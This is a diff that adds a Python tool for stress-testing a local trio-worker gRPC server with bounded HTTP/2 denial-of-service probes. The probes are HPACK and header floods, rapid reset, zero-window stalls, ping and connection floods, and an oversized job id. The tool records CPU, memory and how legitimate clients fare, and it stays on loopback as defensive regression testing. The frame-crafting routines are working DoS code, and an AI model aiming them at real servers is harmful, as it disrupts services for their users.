@@ -1,0 +1,642 @@
+"""Bounded probes of a hostile peer against a running trio-worker server (127.0.0.1 only).
+
+    python tools/probe_hostile.py ATTACK [--pythonpath DIR] [--label TEXT]
+
+ATTACK: big-id, hpack-flood, header-cache, zero-window, rapid-reset, ping-flood, alpn, all.
+
+Each probe starts its own server (``python -m trio_worker.cli serve`` with a development PKI
+in a temporary state directory; ``--pythonpath`` runs another checkout's code, e.g. the
+commit before a change), keeps a legitimate grpcio client calling ``Status`` throughout,
+runs one bounded attack, and prints one JSON line: the server's CPU seconds during the
+attack, its RSS growth (peak, and 5 s after the attack), the slowest legitimate call and
+how many failed, and what the attacker saw (answer time, whether it was cut off, after
+how many frames). Every loop is bounded in count and time; nothing leaves loopback.
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import json
+import os
+import socket
+import ssl
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import grpc
+import hpack
+
+REPO = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(REPO))
+from trio_worker._pb import worker_pb2 as pb  # noqa: E402
+
+KiB = 1024
+MiB = 1024 * KiB
+SERVICE = "/trioworker.v1.Worker/"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+# Frame types and flags (RFC 9113).
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
+    0,
+    1,
+    3,
+    4,
+    6,
+    7,
+    8,
+    9,
+)
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+
+
+def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    n = len(payload)
+    return struct.pack(">HBBBL", n >> 8, n & 0xFF, kind, flags, stream_id) + payload
+
+
+def grpc_message(message: Any) -> bytes:
+    body = message.SerializeToString()
+    return struct.pack(">BI", 0, len(body)) + body
+
+
+# --- the server under test --------------------------------------------------------------
+
+
+@dataclass
+class Server:
+    pid: int
+    port: int
+    ca: Path
+    cert: Path
+    key: Path
+    proc: subprocess.Popen[bytes]
+
+    def cpu(self) -> float:
+        fields = Path(f"/proc/{self.pid}/stat").read_text().rsplit(")", 1)[1].split()
+        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
+
+    def rss(self) -> int:
+        for line in Path(f"/proc/{self.pid}/status").read_text().splitlines():
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1]) * KiB
+        return 0
+
+    def alive(self) -> bool:
+        return self.proc.poll() is None
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@contextlib.contextmanager
+def running_server(pythonpath: str | None) -> Iterator[Server]:
+    with tempfile.TemporaryDirectory(prefix="probe-") as tmp:
+        state = Path(tmp) / "state"
+        port = free_port()
+        env = dict(os.environ)
+        # -S: no site, so no editable-install finder can pick a checkout other than ours.
+        site_packages = [p for p in sys.path if p.endswith("site-packages")]
+        env["PYTHONPATH"] = os.pathsep.join([pythonpath or str(REPO), *site_packages])
+        proc = subprocess.Popen(
+            [
+                sys.executable,
+                "-S",
+                "-m",
+                "trio_worker.cli",
+                "serve",
+                "--listen",
+                f"127.0.0.1:{port}",
+                "--state-dir",
+                str(state),
+            ],
+            env=env,
+            cwd=tmp,  # python -m puts the working directory first on sys.path
+            stdout=subprocess.DEVNULL,
+            stderr=open(Path(tmp) / "server.log", "wb"),  # noqa: SIM115
+        )
+        try:
+            deadline = time.monotonic() + 30
+            pki = state / "pki"
+            while time.monotonic() < deadline:
+                with contextlib.suppress(OSError):
+                    socket.create_connection(("127.0.0.1", port), timeout=1).close()
+                    if (pki / "admin.key").exists():
+                        break
+                time.sleep(0.1)
+            else:
+                raise RuntimeError("the server did not start within 30 s")
+            yield Server(proc.pid, port, pki / "ca.pem", pki / "admin.pem", pki / "admin.key", proc)
+        finally:
+            proc.terminate()
+            try:
+                proc.wait(10)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.wait()
+
+
+def tls(server: Server, alpn: list[str] | None = None, rcvbuf: int = 0) -> ssl.SSLSocket:
+    ctx = ssl.create_default_context(cafile=str(server.ca))
+    ctx.load_cert_chain(str(server.cert), str(server.key))
+    ctx.set_alpn_protocols(alpn if alpn is not None else ["h2"])
+    raw = socket.socket()
+    if rcvbuf:
+        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+    raw.settimeout(10)
+    raw.connect(("127.0.0.1", server.port))
+    return ctx.wrap_socket(raw, server_hostname="localhost")
+
+
+def channel(server: Server) -> grpc.Channel:
+    creds = grpc.ssl_channel_credentials(
+        server.ca.read_bytes(), server.key.read_bytes(), server.cert.read_bytes()
+    )
+    return grpc.secure_channel(f"localhost:{server.port}", creds)
+
+
+def unary(ch: grpc.Channel, method: str, request: Any, response: Any, timeout: float) -> Any:
+    fn = ch.unary_unary(SERVICE + method, request.SerializeToString, response.FromString)
+    return fn(request, timeout=timeout)
+
+
+class Legit:
+    """A legitimate client calling Status in a loop, on its own connection."""
+
+    def __init__(self, server: Server, job_id: str) -> None:
+        self.ch = channel(server)
+        self.job_id = job_id
+        self.slowest = 0.0
+        self.calls = 0
+        self.failed = 0
+        self.errors: list[str] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def _run(self) -> None:
+        request = pb.StatusRequest(id=self.job_id)
+        while not self._stop.is_set():
+            began = time.monotonic()
+            try:
+                unary(self.ch, "Status", request, pb.Job, 10.0)
+            except grpc.RpcError as exc:
+                self.failed += 1
+                if len(self.errors) < 3:
+                    self.errors.append(str(exc.code()))
+            self.calls += 1
+            self.slowest = max(self.slowest, time.monotonic() - began)
+            self._stop.wait(0.02)
+
+    def __enter__(self) -> Legit:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join(30)
+        self.ch.close()
+
+
+@dataclass
+class Report:
+    attack: str
+    figures: dict[str, Any] = field(default_factory=dict)
+
+
+def measure(
+    server: Server, job_id: str, attack: Callable[[Server], dict[str, Any]]
+) -> dict[str, Any]:
+    peak = [server.rss()]
+    stop = threading.Event()
+
+    def sample() -> None:
+        while not stop.wait(0.1):
+            with contextlib.suppress(OSError):
+                peak[0] = max(peak[0], server.rss())
+
+    rss0 = server.rss()
+    cpu0 = server.cpu()
+    sampler = threading.Thread(target=sample, daemon=True)
+    sampler.start()
+    with Legit(server, job_id) as legit:
+        time.sleep(0.5)
+        began = time.monotonic()
+        seen = attack(server)
+        took = time.monotonic() - began
+        time.sleep(0.5)
+    cpu = server.cpu() - cpu0
+    stop.set()
+    sampler.join()
+    time.sleep(5)
+    return {
+        **seen,
+        "attack_s": round(took, 2),
+        "server_cpu_s": round(cpu, 2),
+        "rss_before_mib": round(rss0 / MiB, 1),
+        "rss_peak_growth_mib": round((peak[0] - rss0) / MiB, 1),
+        "rss_growth_after_5s_mib": round((server.rss() - rss0) / MiB, 1),
+        "legit_calls": legit.calls,
+        "legit_failed": legit.failed,
+        "legit_errors": legit.errors,
+        "legit_slowest_ms": round(legit.slowest * 1000, 1),
+        "server_alive": server.alive(),
+    }
+
+
+# --- raw HTTP/2 helpers -----------------------------------------------------------------
+
+
+class Raw:
+    """A raw HTTP/2 client connection: frames written by hand, frames read and counted."""
+
+    def __init__(self, server: Server, settings: bytes = b"", rcvbuf: int = 0) -> None:
+        self.sock = tls(server, rcvbuf=rcvbuf)
+        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
+        self.encoder = hpack.Encoder()
+        self.closed_by_server = False
+        self.goaway: int | None = None
+        self._buf = b""
+
+    def request_block(self, method: str, extra: list[tuple[str, str]] = ()) -> bytes:  # type: ignore[assignment]
+        headers = [
+            (":method", "POST"),
+            (":scheme", "https"),
+            (":path", SERVICE + method),
+            (":authority", "localhost"),
+            ("te", "trailers"),
+            ("content-type", "application/grpc"),
+            *extra,
+        ]
+        # Literals without indexing: blocks stay independent of each other.
+        return b"".join(b"\x00" + hpack_str(n) + hpack_str(v) for n, v in headers)
+
+    def send(self, data: bytes) -> bool:
+        self.sock.settimeout(30)
+        try:
+            self.sock.sendall(data)
+            return True
+        except (OSError, ssl.SSLError):
+            self.closed_by_server = True
+            return False
+
+    def drain(self, timeout: float = 0.0) -> None:
+        """Read what the server sent, noting GOAWAY and EOF (answers SETTINGS)."""
+        self.sock.settimeout(timeout)
+        try:
+            while True:
+                data = self.sock.recv(256 * KiB)
+                if not data:
+                    self.closed_by_server = True
+                    return
+                self._buf += data
+                self._parse()
+        except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
+            return
+        except (OSError, ssl.SSLError):
+            self.closed_by_server = True
+
+    def _parse(self) -> None:
+        buf = self._buf
+        while len(buf) >= 9:
+            length = int.from_bytes(buf[:3], "big")
+            if len(buf) < 9 + length:
+                break
+            kind, flags = buf[3], buf[4]
+            payload = buf[9 : 9 + length]
+            if kind == GOAWAY:
+                self.goaway = int.from_bytes(payload[4:8], "big")
+            elif kind == SETTINGS and not flags & ACK:
+                self.send(frame(SETTINGS, ACK, 0))
+            buf = buf[9 + length :]
+        self._buf = buf
+
+    def close(self) -> None:
+        with contextlib.suppress(OSError):
+            self.sock.close()
+
+
+def hpack_int(value: int, prefix: int, first: int = 0) -> bytes:
+    limit = (1 << prefix) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = [first | limit]
+    value -= limit
+    while value >= 128:
+        out.append(value % 128 + 128)
+        value //= 128
+    out.append(value)
+    return bytes(out)
+
+
+def hpack_str(text: str) -> bytes:
+    raw = text.encode()
+    return hpack_int(len(raw), 7) + raw
+
+
+def header_frames(stream_id: int, block: bytes, end_stream: bool, size: int = 16 * KiB) -> bytes:
+    """HEADERS + CONTINUATION frames of at most ``size`` bytes each."""
+    return b"".join(_header_frames(stream_id, block, end_stream, size))
+
+
+def _header_frames(stream_id: int, block: bytes, end_stream: bool, size: int) -> list[bytes]:
+    """HEADERS + CONTINUATION frames of at most ``size`` bytes each."""
+    chunks = [block[i : i + size] for i in range(0, len(block), size)] or [b""]
+    out = []
+    for i, chunk in enumerate(chunks):
+        flags = END_HEADERS if i == len(chunks) - 1 else 0
+        if i == 0:
+            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, chunk))
+        else:
+            out.append(frame(CONTINUATION, flags, stream_id, chunk))
+    return out
+
+
+# --- the attacks ------------------------------------------------------------------------
+
+
+def big_id(server: Server) -> dict[str, Any]:
+    """One readonly-style Status with a 512 KiB job id (echoed into grpc-message before)."""
+    with channel(server) as ch:
+        began = time.monotonic()
+        code = "OK"
+        try:
+            unary(ch, "Status", pb.StatusRequest(id="x" * (512 * KiB)), pb.Job, 300)
+        except grpc.RpcError as exc:
+            code = str(exc.code())
+        return {"abusive_answer_s": round(time.monotonic() - began, 2), "abusive_code": code}
+
+
+def hpack_flood(server: Server, total: int = 8 * MiB) -> dict[str, Any]:
+    """One header block of 1-byte HPACK table-size updates (``0x20``), ``total`` bytes in
+    16 KiB HEADERS/CONTINUATION frames, then a valid request ends it."""
+    raw = Raw(server)
+    raw.drain(1.0)
+    began = time.monotonic()
+    block = b"\x20" * total + raw.request_block("Status")
+    frames = header_frames(1, block, end_stream=False, size=MiB - 1)
+    sent = 0
+    step = 256 * KiB
+    while sent < len(frames) and time.monotonic() - began < 120:
+        if not raw.send(frames[sent : sent + step]):
+            break
+        sent += step
+        raw.drain(0)
+    if not raw.closed_by_server:
+        raw.send(frame(DATA, END_STREAM, 1, grpc_message(pb.StatusRequest(id="x"))))
+        raw.drain(10)
+    raw.close()
+    return {
+        "abusive_answer_s": round(time.monotonic() - began, 2),
+        "block_bytes_sent": min(sent, len(frames)),
+        "cut_off": raw.closed_by_server or raw.goaway is not None,
+        "goaway_error": raw.goaway,
+    }
+
+
+def header_cache(server: Server, blocks: int = 64, size: int = 256 * KiB) -> dict[str, Any]:
+    """``blocks`` distinct header blocks of ``size`` bytes (table-size updates, then a valid
+    request) on one connection: a decoded-header cache keyed by whole blocks keeps them."""
+    raw = Raw(server)
+    raw.drain(1.0)
+    began = time.monotonic()
+    sent_blocks = 0
+    for i in range(blocks):
+        if time.monotonic() - began > 120:
+            break
+        stream_id = 1 + 2 * i
+        extra = [("x-probe", str(i))]
+        block = b"\x20" * size + raw.request_block("Status", extra)
+        data = header_frames(stream_id, block, end_stream=False, size=MiB - 1)
+        data += frame(DATA, END_STREAM, stream_id, grpc_message(pb.StatusRequest(id="x")))
+        if not raw.send(data):
+            break
+        sent_blocks += 1
+        raw.drain(0)
+    raw.drain(2)
+    raw.close()
+    return {
+        "blocks_sent": sent_blocks,
+        "cut_off": raw.closed_by_server or raw.goaway is not None,
+        "goaway_error": raw.goaway,
+    }
+
+
+def zero_window(server: Server, streams: int = 100, hold: float = 15.0) -> dict[str, Any]:
+    """A client advertising a zero stream window that never opens it: ``streams`` Output
+    follow streams of a chatty job from offset 0, held ``hold`` seconds, reading the socket
+    (so TCP is never what holds the server back)."""
+    settings = struct.pack(">HL", 0x4, 0)  # SETTINGS_INITIAL_WINDOW_SIZE = 0
+    raw = Raw(server, settings)
+    raw.drain(1.0)
+    data = b""
+    for i in range(streams):
+        stream_id = 1 + 2 * i
+        data += header_frames(stream_id, raw.request_block("Output"), end_stream=False)
+        request = pb.OutputRequest(id=CHATTY[0], offset=0, follow=True)
+        data += frame(DATA, END_STREAM, stream_id, grpc_message(request))
+    raw.send(data)
+    deadline = time.monotonic() + hold
+    while time.monotonic() < deadline and not raw.closed_by_server:
+        raw.drain(0.2)
+    raw.close()
+    return {"streams": streams, "held_s": hold, "cut_off": raw.closed_by_server}
+
+
+def rapid_reset(server: Server, pairs: int = 100_000) -> dict[str, Any]:
+    """HEADERS (a Status request) immediately followed by RST_STREAM(CANCEL), ``pairs``
+    times on one connection (CVE-2023-44487)."""
+    raw = Raw(server)
+    raw.drain(1.0)
+    block = raw.request_block("Status")
+    began = time.monotonic()
+    sent = 0
+    batch = 500
+    while sent < pairs and time.monotonic() - began < 60:
+        data = b"".join(
+            header_frames(1 + 2 * (sent + i), block, end_stream=False)
+            + frame(RST_STREAM, 0, 1 + 2 * (sent + i), struct.pack(">L", 8))
+            for i in range(batch)
+        )
+        if not raw.send(data):
+            break
+        sent += batch
+        raw.drain(0)
+        if raw.closed_by_server:
+            break
+    raw.drain(2)
+    raw.close()
+    return {
+        "pairs_sent": sent,
+        "cut_off": raw.closed_by_server or raw.goaway is not None,
+        "goaway_error": raw.goaway,
+    }
+
+
+def ping_flood(server: Server, pings: int = 4_000_000, seconds: float = 30.0) -> dict[str, Any]:
+    """PING frames from a client that never reads (small receive buffer), until ``pings``
+    were sent, the server stops taking them for 5 s, or ``seconds`` pass."""
+    raw = Raw(server, rcvbuf=4 * KiB)
+    ping = frame(PING, 0, 0, b"12345678")
+    batch = ping * 4096
+    sent = 0
+    began = time.monotonic()
+    raw.sock.settimeout(5.0)
+    stalled = False
+    while sent < pings and time.monotonic() - began < seconds:
+        try:
+            raw.sock.sendall(batch)
+        except (TimeoutError, ssl.SSLError, OSError) as exc:
+            stalled = isinstance(exc, TimeoutError)
+            raw.closed_by_server = not stalled
+            break
+        sent += 4096
+    raw.close()
+    return {"pings_sent": sent, "server_stopped_reading": stalled, "cut_off": raw.closed_by_server}
+
+
+def alpn(server: Server) -> dict[str, Any]:
+    """A TLS client offering ALPN http/1.1 only: served, or refused at the handshake?"""
+    try:
+        sock = tls(server, alpn=["http/1.1"])
+    except (ssl.SSLError, OSError) as exc:
+        return {"handshake": "refused", "reason": type(exc).__name__}
+    chosen = sock.selected_alpn_protocol()
+    sock.settimeout(5)
+    served = False
+    try:
+        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+        data = sock.recv(9)
+        served = len(data) == 9 and data[3] == SETTINGS
+    except (OSError, ssl.SSLError):
+        pass
+    sock.close()
+    return {"handshake": "completed", "alpn": chosen, "served_h2": served}
+
+
+def conn_flood(
+    server: Server, held: int = 1000, fresh: int = 40, seconds: float = 60.0
+) -> dict[str, Any]:
+    """``held`` idle TCP connections from 127.0.0.2, refilled as the server drops them,
+    while ``fresh`` new legitimate clients from 127.0.0.1 each connect and call Status
+    once (5 s deadline): how many are served, and how slowly (issue 10, admission)."""
+    import resource
+
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
+    stop = threading.Event()
+    socks: list[socket.socket] = []
+    refills = [0]
+
+    def flood() -> None:
+        began = time.monotonic()
+        while not stop.is_set() and time.monotonic() - began < seconds:
+            alive = []
+            for sock in socks:  # drop those the server closed or reset
+                try:
+                    if sock.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b"":
+                        sock.close()
+                        continue
+                except BlockingIOError:
+                    pass
+                except OSError:
+                    sock.close()
+                    continue
+                alive.append(sock)
+            socks[:] = alive
+            while len(socks) < held and not stop.is_set():
+                sock = socket.socket()
+                sock.bind(("127.0.0.2", 0))
+                sock.settimeout(1.0)
+                try:
+                    sock.connect(("127.0.0.1", server.port))
+                except OSError:
+                    sock.close()
+                    break
+                socks.append(sock)
+                refills[0] += 1
+            stop.wait(0.2)
+
+    thread = threading.Thread(target=flood, daemon=True)
+    thread.start()
+    time.sleep(3)  # let the flood fill up
+    served = 0
+    slowest = 0.0
+    began = time.monotonic()
+    for _ in range(fresh):
+        if time.monotonic() - began > seconds:
+            break
+        t0 = time.monotonic()
+        try:
+            with channel(server) as ch:
+                unary(ch, "Status", pb.StatusRequest(id=JOB[0]), pb.Job, 5.0)
+            served += 1
+            slowest = max(slowest, time.monotonic() - t0)
+        except grpc.RpcError:
+            pass
+    stop.set()
+    thread.join(30)
+    held_at_end = len(socks)
+    for sock in socks:
+        sock.close()
+    resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
+    return {
+        "fresh_clients": fresh,
+        "fresh_served": served,
+        "fresh_slowest_served_ms": round(slowest * 1000, 1),
+        "flood_connects": refills[0],
+        "flood_held_at_end": held_at_end,
+    }
+
+
+ATTACKS: dict[str, Callable[[Server], dict[str, Any]]] = {
+    "big-id": big_id,
+    "hpack-flood": hpack_flood,
+    "header-cache": header_cache,
+    "zero-window": zero_window,
+    "rapid-reset": rapid_reset,
+    "ping-flood": ping_flood,
+    "alpn": alpn,
+    "conn-flood": conn_flood,
+}
+CHATTY: list[str] = [""]
+JOB: list[str] = [""]
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
+    ap.add_argument("attack", choices=[*ATTACKS, "all"])
+    ap.add_argument("--pythonpath", help="run the server from this checkout instead")
+    ap.add_argument("--label", default="")
+    args = ap.parse_args()
+    names = list(ATTACKS) if args.attack == "all" else [args.attack]
+    for name in names:
+        with running_server(args.pythonpath) as server, channel(server) as ch:
+            job = unary(ch, "Start", pb.StartRequest(command="true"), pb.Job, 30)
+            JOB[0] = job.id
+            chatty = None
+            if name == "zero-window":
+                script = "while :; do head -c 1048576 /dev/zero | tr '\\0' x; sleep 0.05; done"
+                chatty = unary(
+                    ch, "Start", pb.StartRequest(command="sh", args=["-c", script]), pb.Job, 30
+                )
+                CHATTY[0] = chatty.id
+                time.sleep(3)  # some output on disk, beyond the memory tail
+            figures = measure(server, job.id, ATTACKS[name])
+            if chatty is not None:
+                with contextlib.suppress(grpc.RpcError):
+                    unary(ch, "Stop", pb.StopRequest(id=chatty.id), pb.Job, 30)
+        print(json.dumps({"attack": name, "label": args.label, **figures}), flush=True)
+
+
+if __name__ == "__main__":
+    main()
